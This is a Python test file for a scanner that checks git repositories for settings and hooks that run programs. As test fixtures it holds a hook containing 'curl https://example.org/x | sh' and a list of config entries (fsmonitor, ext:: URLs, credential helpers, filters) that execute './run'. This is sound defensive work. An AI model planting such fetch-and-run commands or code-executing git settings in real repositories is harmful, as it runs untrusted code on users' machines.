"""A clone: git's own files are taken by their checksums; hooks and settings that run programs are found."""

import hashlib
import shutil
import struct
import subprocess
import zlib

import pytest
from drive import rules, scan_bytes

from probatum.scan import scan

CLONED = """[core]
\trepositoryformatversion = 0
\tfilemode = true
\tbare = false
[remote "origin"]
\turl = https://example.org/me/model
\tfetch = +refs/heads/*:refs/remotes/origin/*
[branch "main"]
\tremote = origin
\tmerge = refs/heads/main
[lfs]
\trepositoryformatversion = 0
[filter "lfs"]
\tclean = git-lfs clean -- %f
\tsmudge = git-lfs smudge -- %f
\tprocess = git-lfs filter-process
\trequired = true
"""


def config(text, name="model/.git/config"):
    return scan_bytes(text.encode(), name)


def test_the_configuration_of_a_clone_runs_nothing():
    assert (config(CLONED).verdict, config(CLONED).format) == ("proved inert", "git config")


@pytest.mark.parametrize("setting", [
    "[core]\n\tfsmonitor = ./run", "[core] fsmonitor = ./run", "[CORE]\nfsMonitor=./run", "[core]hooksPath=here",
    "[core]\n\tsshCommand = ./run", "[core]\n\tpager = ./run", '[filter "x"]\n\tsmudge = ./run',
    "[filter.lfs]\nclean = ./run",
    '[filter "lfs"]\n\tclean = git-lfs clean -- %f; ./run', "[alias]\n\tst = !./run", "[include]\n\tpath = ../other",
    '[includeIf "gitdir:/"]\n\tpath = ../other', '[remote "origin"]\n\turl = ext::./run', "[diff]\n\texternal = ./run",
    '[diff "x"]\n\ttextconv = ./run', "[gpg]\n\tprogram = ./run", "[credential]\n\thelper = !./run",
    "[gc]\n\trecentObjectsHook = ./run", '[remote "origin"]\n\tuploadpack = ./run', "[user]\n\tname = a\\\nb",
    "[core]\n\tfilemode = true\n  \x0cfsmonitor = ./run", "no section at all !",
])  # fmt: skip
def test_a_setting_that_may_run_something_is_found(setting):
    result = config(CLONED + setting + "\n")
    assert (result.verdict, rules(result)) == ("executes unknown code", {"GIT003"})
    assert config(setting, "bare.git/config").verdict == "executes unknown code"
    assert config(setting, "model/.git/modules/a/b/config").verdict == "executes unknown code"
    assert "GIT003" not in rules(config(setting, "model/.git/refs/heads/config"))


def test_hooks_are_known_by_their_names():
    hook = b"#!/bin/sh\ncurl https://example.org/x | sh\n"
    assert rules(scan_bytes(hook, "m/.git/hooks/post-checkout")) == {"GIT002", "SHL001", "SHL002"}
    assert rules(scan_bytes(b"print(1)", "m/.git/hooks/pre-push")) >= {"GIT002"}
    sample = scan_bytes(hook, "m/.git/hooks/pre-push.sample")
    assert (sample.verdict, rules(sample)) == ("proved inert", {"GIT001"})
    assert scan_bytes(b"\x80\x02cos\ngetcwd\n)R.", "m/.git/hooks/a.sample").verdict == "dangerous"


@pytest.mark.parametrize("name", ["sha1", "sha256"])
def test_packs_and_indexes_end_with_their_checksum(name):
    body = b"DIRC" + struct.pack(">II", 2, 0) + b"x" * 40
    whole = body + hashlib.new(name, body).digest()
    assert (scan_bytes(whole).verdict, scan_bytes(whole).format) == ("proved inert", "git index")
    for other in (whole[:-1], whole + b"x", whole.replace(b"xx", b"xy", 1), body):
        assert rules(scan_bytes(other)) == {"GIT004"}


def test_an_object_is_as_long_as_it_says():
    assert scan_bytes(zlib.compress(b"blob 5\0words")).verdict == "proved inert"
    assert scan_bytes(zlib.compress(b"blob 4\0words")).verdict == "not covered"


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not here")
@pytest.mark.parametrize("packed", [False, True])
def test_a_real_clone_is_inert(tmp_path, packed):
    def git(*words, at):
        subprocess.run(["git", "-c", "user.name=a", "-c", "user.email=a@example.org", *words], cwd=at, check=True)

    (tmp_path / "one").mkdir()
    git("init", "-q", at=tmp_path / "one")
    for n in range(3):
        (tmp_path / "one" / "README.md").write_text(f"# Model\n\nVersion {n}, with some words.\n")
        git("add", ".", at=tmp_path / "one")
        git("commit", "-q", "-m", f"version {n}", at=tmp_path / "one")
    git("clone", "-q", "one", "two", at=tmp_path)
    if packed:
        git("gc", "-q", at=tmp_path / "two")
    result = scan([tmp_path / "two"])
    assert {f.verdict for f in result.files} == {"proved inert"}, [
        f for f in result.files if f.verdict != "proved inert"
    ]
